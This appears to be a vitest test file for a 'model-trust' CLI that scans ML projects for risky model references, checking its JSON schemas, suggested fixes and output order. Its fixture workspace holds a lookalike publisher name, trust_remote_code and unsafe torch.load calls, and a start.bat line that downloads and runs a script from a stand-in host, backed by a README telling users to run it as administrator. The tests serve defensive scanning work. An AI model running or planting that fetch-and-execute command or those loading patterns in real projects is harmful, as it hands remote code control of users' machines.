import { describe, expect, test } from 'vitest';
import { temporaryFolder } from '../workspace/temporaryFolder.ts';
import { modelTrust } from './bundledCli.ts';
import { schemaProblems } from './schemas.ts';

const notebook = JSON.stringify({
  cells: [
    { cell_type: 'markdown', metadata: {}, source: ['# Try\n', 'See https://huggingface.co/openai/whisper-tiny\n'] },
    {
      cell_type: 'code',
      metadata: {},
      execution_count: null,
      outputs: [],
      source: ['from transformers import pipeline\n', 'p = pipeline("text-generation", "EleuterAI/gpt-j-6B")'],
    },
  ],
  metadata: {},
  nbformat: 4,
  nbformat_minor: 5,
});

/** Something of everything: a fix, a silenced finding, a hazard without a repo, a cell, a file that is no text. */
const workspace = {
  'train.py': `from datasets import load_dataset
from transformers import AutoModel
import torch
m = AutoModel.from_pretrained("EleuterAI/gpt-j-6B", trust_remote_code=True)
n = AutoModel.from_pretrained("anthfu/DeepSeek-V4-Pro", revision="main")  # model-trust: ignore[known-malicious]
d = load_dataset("rajpurkar/squad", trust_remote_code=False)
w = torch.load("downloaded.bin", weights_only=False)
`,
  'notes.ipynb': notebook,
  'README.md': '# Model\n\nRun `start.bat` as administrator.\n',
  'start.bat': 'powershell -ep bypass -c "iwr https://e.example/x | iex"\n',
  'broken.py': '\0',
};

describe('what programs rely on', () => {
  test('scan --format json is as its schema says', async () => {
    const { stdout } = await modelTrust(['scan', '--format', 'json'], { cwd: temporaryFolder(workspace) });
    const report = JSON.parse(stdout);
    expect(schemaProblems('scan', report)).toEqual([]);
    expect(Object.keys(report)).toEqual(['version', 'scanned', 'references', 'findings', 'repos', 'skipped']);
    expect(report.scanned.files).toBe(4);
    expect(report.scanned.references).toBe(report.references.length);
    expect(report.skipped).toEqual([{ path: 'broken.py', why: 'a binary file' }]);
    for (const repo of Object.values<{ signals: unknown; facts: unknown }>(report.repos)) {
      expect(Object.keys(repo)).toEqual(['id', 'kind', 'verdict', 'signals', 'facts', 'notChecked']);
    }
    expect(report.repos['models/EleuterAI/gpt-j-6B'].signals[0]).toMatchObject({
      rule: 'lookalike-publisher',
      severity: 'warning',
      target: 'EleutherAI/gpt-j-6B',
      distance: 1,
    });
    expect(report.findings.filter((finding: { suppressed?: true }) => finding.suppressed)).toMatchObject([
      { rule: 'known-malicious', file: 'train.py', line: 5, id: 'anthfu/DeepSeek-V4-Pro' },
    ]);
    const places: Place[] = report.findings.map((one: { file: string; line: number; column: number }) => [
      one.file,
      one.line,
      one.column,
    ]);
    expect(places).toEqual(places.toSorted(byPlace));
  });

  test('every fix can be applied to the file as it is, and points at what it replaces', async () => {
    const { stdout } = await modelTrust(['scan', '--format', 'json'], { cwd: temporaryFolder(workspace) });
    const fixes = JSON.parse(stdout).findings.filter((finding: { fix?: unknown }) => finding.fix);
    const lines = workspace['train.py'].split('\n');
    const first = fixes.find(
      (one: { rule: string; file: string }) => one.rule === 'lookalike-publisher' && one.file === 'train.py',
    );
    const { line, column, endColumn, newText } = first.fix.edits[0];
    expect(lines[line - 1]!.slice(column, endColumn)).toBe('EleuterAI/gpt-j-6B');
    expect(newText).toMatch(/^EleutherAI\//);
  });

  test('refs --format jsonl: one object a reference, sorted, with exactly the promised fields', async () => {
    const { stdout, code } = await modelTrust(['refs', '--format', 'jsonl'], { cwd: temporaryFolder(workspace) });
    expect(code).toBe(0);
    const references = stdout
      .trimEnd()
      .split('\n')
      .map(line => JSON.parse(line));
    expect(references.flatMap(reference => schemaProblems('reference', reference))).toEqual([]);
    expect(references.find(({ file }) => file === 'train.py')).toEqual({
      file: 'train.py',
      line: 4,
      column: 31,
      endColumn: 49,
      id: 'EleuterAI/gpt-j-6B',
      kind: 'model',
      revision: null,
      trustRemoteCode: true,
      api: 'AutoModel.from_pretrained',
      link: false,
    });
    expect(references.filter(({ file }) => file === 'train.py').slice(1)).toMatchObject([
      { line: 5, id: 'anthfu/DeepSeek-V4-Pro', kind: 'model', revision: 'main', trustRemoteCode: null },
      { line: 6, id: 'rajpurkar/squad', kind: 'dataset', revision: null, trustRemoteCode: false },
    ]);
    const inNotebook = references.find(({ file, link }) => file === 'notes.ipynb' && !link);
    expect(inNotebook).toMatchObject({ id: 'EleuterAI/gpt-j-6B', line: 1, cell: { index: 1, line: 2, column: 33 } });
    expect(notebook.slice(inNotebook.column, inNotebook.endColumn)).toBe('EleuterAI/gpt-j-6B');
    const places: Place[] = references.map(({ file, line, column }) => [file, line, column]);
    expect(places).toEqual(places.toSorted(byPlace));
  });

  test('rules --format json is as its schema says, for all and for one', async () => {
    const all = JSON.parse((await modelTrust(['rules', '--format', 'json'])).stdout);
    expect(schemaProblems('rules', all)).toEqual([]);
    expect(all.rules.length).toBeGreaterThan(15);
    const one = JSON.parse((await modelTrust(['rules', 'unsafe-load', '--format', 'json'])).stdout);
    expect(one.rules).toEqual(all.rules.filter(({ id }: { id: string }) => id === 'unsafe-load'));
  });

  test('the same input gives the same bytes', async () => {
    const cwd = temporaryFolder(workspace);
    for (const args of [['scan'], ['scan', '--format', 'json'], ['scan', '--format', 'markdown'], ['refs']]) {
      expect(await modelTrust(args, { cwd })).toEqual(await modelTrust(args, { cwd }));
    }
  });
});

type Place = readonly [file: string, line: number, column: number];

function byPlace([fileA, lineA, columnA]: Place, [fileB, lineB, columnB]: Place): number {
  if (fileA !== fileB) return fileA < fileB ? -1 : 1;
  return lineA - lineB || columnA - columnB;
}
